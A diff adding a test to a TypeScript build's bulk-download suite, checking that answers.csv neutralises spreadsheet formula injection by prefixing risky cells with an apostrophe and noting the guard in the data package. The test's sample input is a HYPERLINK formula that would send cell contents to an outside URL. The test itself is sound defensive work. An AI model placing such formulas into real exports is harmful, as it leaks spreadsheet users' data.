@@ -15,6 +15,8 @@ import { SHARED_VARIANTS, sharedBuild } from "./support/shared-build.ts";
 import { startLocalServer } from "./support/local-server.ts";
 import { parseCsv } from "./support/csv.ts";
 import { escapeHtml } from "../build/engine/describe/docs-html.ts";
+import { answerCsvRow, FORMULA_GUARD } from "../build/engine/compile/data-package.ts";
+import type { AnswerResource } from "../build/contract/resources.ts";
 
 const execFileAsync = promisify(execFile);
 /** The origin of the shared production-like build: absolute URLs start with it. */
@@ -258,6 +260,18 @@ describe("bulk downloads", () => {
       expect(line.length, answer.slug).toBeGreaterThan(100);
       expect(row.join("\n")).not.toContain(line);
     }
+  });
+
+  it("answers.csv writes a text a spreadsheet would run as a formula with an apostrophe before it, and says so", async () => {
+    const collection = await readJson<{ data: AnswerResource[] }>(path.join(dist, "api/v1/answers/index.json"));
+    const answer = { ...collection.data[0]!, title: '=HYPERLINK("https://example.org/?x="&A1,"x")', question: "-2+3" };
+    const [, row] = parseCsv(`${"x\r\n"}${answerCsvRow(answer)}`);
+    expect(row).toContain(`'${answer.title}`);
+    expect(row).toContain("'-2+3");
+    const { resources } = await readJson<{ resources: Array<{ description: string }> }>(
+      path.join(dist, "data/datapackage.json"),
+    );
+    for (const resource of resources) expect(resource.description).toContain(FORMULA_GUARD);
   });
 
   it("the ZIP holds each answer's body once, in answers.ndjson", async () => {
